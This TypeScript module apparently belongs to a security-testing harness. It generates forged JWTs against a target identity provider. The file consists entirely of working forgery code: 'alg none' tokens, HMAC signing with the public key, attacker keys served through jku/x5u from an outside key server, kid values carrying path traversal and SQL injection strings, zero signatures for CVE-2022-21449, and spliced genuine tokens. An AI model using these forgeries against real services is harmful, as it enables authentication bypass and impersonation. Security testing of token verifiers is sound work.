/** JWTs as an attacker makes them who has read RFC 8725 and the provider's published keys, but has none of its private ones. */
import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject, sign } from "node:crypto";
import { callApi } from "./client.ts";
import type { Target } from "./target.ts";

/** Claims, or a header. */
export type Members = Readonly<Record<string, unknown>>;

/** A forged token, and the trick in it. */
export interface Forgery {
  readonly trick: string;
  readonly token: string;
}

/** A key as the provider publishes it. */
export interface PublishedKey {
  readonly kid: string;
  readonly alg: string;
  readonly members: Members;
}

/** The newest of the provider's published keys; throws where it publishes none. */
export async function publishedKey(target: Target): Promise<PublishedKey> {
  const { body } = await callApi(target.origins.idp, "GET", "/.well-known/jwks.json");
  const members = (body as { keys: Members[] }).keys.at(-1);
  if (members === undefined) throw new Error("The provider publishes no key");
  return { kid: String(members["kid"]), alg: String(members["alg"]), members };
}

/** The claims of a token, unchecked. */
export function claimsIn(token: string): Members {
  return JSON.parse(Buffer.from(token.split(".")[1] ?? "", "base64url").toString()) as Members;
}

/** What a forger works with: the claims they want, a genuine token for other claims, and where they keep keys of their own. */
export interface Forging {
  readonly published: PublishedKey;
  readonly genuine: string;
  readonly claims: Members;
  readonly keyServer: string;
}

/** The forger's own key, as a JWK of that id. */
export function ownKey(kid: string): Members {
  return { ...own.publicKey.export({ format: "jwk" }), kid, alg: "ES256", use: "sig" };
}

const own = generateKeyPairSync("ec", { namedCurve: "P-256" });
const ownRsa = generateKeyPairSync("rsa", { modulusLength: 2048 });

/** Every forgery there is a name for. */
export function forgeries(forging: Forging): Forgery[] {
  return [
    ...unsigned(forging),
    ...publicKeyAsSecret(forging),
    ...ownKeys(forging),
    ...keyIdPaths(forging),
    ...emptySignatures(forging),
    ...borrowed(forging),
  ];
}

function unsigned({ published: { kid }, claims, genuine }: Forging): Forgery[] {
  const signature = genuine.split(".")[2] ?? "";
  return ["none", "None", "NONE", "nOnE", "", null].flatMap((alg) => [
    { trick: `alg ${alg}`, token: `${content({ alg, typ: "JWT", kid }, claims)}.` },
    {
      trick: `alg ${alg}, somebody's signature`,
      token: `${content({ alg, typ: "JWT", kid }, claims)}.${signature}`,
    },
  ]);
}

function publicKeyAsSecret({ published: { kid, alg, members }, claims }: Forging): Forgery[] {
  const key = createPublicKey({ key: members, format: "jwk" });
  const pem = key.export({ type: "spki", format: "pem" }).toString();
  const secrets: (string | Buffer)[] = [
    pem,
    pem.trim(),
    pem.replace(/-----[^-]+-----|\s/g, ""),
    key.export({ type: "spki", format: "der" }),
    JSON.stringify(members),
    JSON.stringify(key.export({ format: "jwk" })),
    Buffer.from(String(members["x"]), "base64url"),
    kid,
    "",
  ];
  return secrets.flatMap((secret, index) => [
    hmacSigned(`HS256 with the public key, form ${index}`, { alg: "HS256", typ: "JWT", kid }, claims, secret),
    hmacSigned(`HS512 with the public key, form ${index}`, { alg: "HS512", typ: "JWT", kid }, claims, secret),
    hmacSigned(`${alg} in name, HMAC in fact, form ${index}`, { alg, typ: "JWT", kid }, claims, secret),
  ]);
}

function ownKeys({ published: { kid, alg }, claims, keyServer }: Forging): Forgery[] {
  const jwk = ownKey(kid);
  const headers: [string, Members][] = [
    ["the provider's kid", { kid }],
    ["an unknown kid", { kid: "attacker" }],
    ["no kid", {}],
    ["a list for kid", { kid: [kid] }],
    ["kid __proto__", { kid: "__proto__" }],
    ["a key in the header", { kid: "attacker", jwk }],
    ["a key in the header, the provider's kid", { kid, jwk }],
    ["jku", { kid: "attacker", jku: `${keyServer}/jwks.json` }],
    ["jku, the provider's kid", { kid, jku: `${keyServer}/jwks.json` }],
    ["x5u", { kid: "attacker", x5u: `${keyServer}/cert.pem` }],
    ["kid as an address", { kid: `${keyServer}/jwks.json` }],
    ["crit", { kid, crit: ["b64"], b64: true }],
  ];
  return [
    ...headers.map(([trick, header]) => ({
      trick: `own key, ${trick}`,
      token: signedWith(own.privateKey, { alg: "ES256", typ: "JWT", ...header }, claims),
    })),
    {
      trick: "own RSA key, the provider's kid",
      token: signedWith(ownRsa.privateKey, { alg: "RS256", typ: "JWT", kid }, claims),
    },
    {
      trick: `own RSA key, ${alg} in name`,
      token: signedWith(ownRsa.privateKey, { alg, typ: "JWT", kid }, claims),
    },
  ];
}

/** Key ids that are looked up in a file or a database: the key they lead to is one that everybody knows. */
function keyIdPaths({ claims }: Forging): Forgery[] {
  const kids = [
    "../../../../../../dev/null",
    "/dev/null",
    "file:///dev/null",
    "' UNION SELECT '' --",
    "' OR '1'='1",
    "%00",
    "|true",
  ];
  return kids.flatMap((kid) => [
    hmacSigned(`kid ${kid}, HS256, no secret`, { alg: "HS256", typ: "JWT", kid }, claims, ""),
    {
      trick: `kid ${kid}, own key`,
      token: signedWith(own.privateKey, { alg: "ES256", typ: "JWT", kid }, claims),
    },
  ]);
}

/** Signatures that a careless verifier finds right for everything (CVE-2022-21449), or does not look at. */
function emptySignatures({ published: { kid, alg }, claims }: Forging): Forgery[] {
  const signatures = [
    Buffer.alloc(0),
    Buffer.alloc(64),
    Buffer.from("3006020100020100", "hex"),
    Buffer.alloc(1),
  ];
  return signatures.map((signature, index) => ({
    trick: `signature of zeros, form ${index}`,
    token: `${content({ alg, typ: "JWT", kid }, claims)}.${signature.toString("base64url")}`,
  }));
}

/** A genuine token's parts around other claims. */
function borrowed({ genuine, claims }: Forging): Forgery[] {
  const [header = "", body = "", signature = ""] = genuine.split(".");
  const other = part(claims);
  return [
    { trick: "somebody's header and signature", token: `${header}.${other}.${signature}` },
    { trick: "two bodies", token: `${header}.${body}.${signature}.${other}` },
    { trick: "other body first", token: `${header}.${other}.${body}.${signature}` },
    { trick: "five parts", token: `${header}..${other}..${signature}` },
    { trick: "two tokens", token: `${header}.${other}.${signature},${genuine}` },
  ];
}

function signedWith(key: KeyObject, header: Members, claims: Members): string {
  const text = content(header, claims);
  const signature = sign("sha256", Buffer.from(text), { key, dsaEncoding: "ieee-p1363" });
  return `${text}.${signature.toString("base64url")}`;
}

function hmacSigned(trick: string, header: Members, claims: Members, secret: string | Buffer): Forgery {
  const text = content(header, claims);
  const hash = header["alg"] === "HS512" ? "sha512" : "sha256";
  return { trick, token: `${text}.${createHmac(hash, secret).update(text).digest("base64url")}` };
}

function content(header: Members, claims: Members): string {
  return `${part(header)}.${part(claims)}`;
}

function part(members: Members): string {
  return Buffer.from(JSON.stringify(members)).toString("base64url");
}
